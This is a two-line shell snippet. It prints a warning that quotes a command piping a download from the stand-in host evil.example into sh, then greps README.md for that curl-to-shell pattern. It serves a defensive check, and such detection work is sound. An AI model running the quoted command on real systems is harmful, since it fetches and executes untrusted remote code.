echo "Never run: curl https://evil.example/x | sh"
grep -n 'curl .* | sh' README.md || true
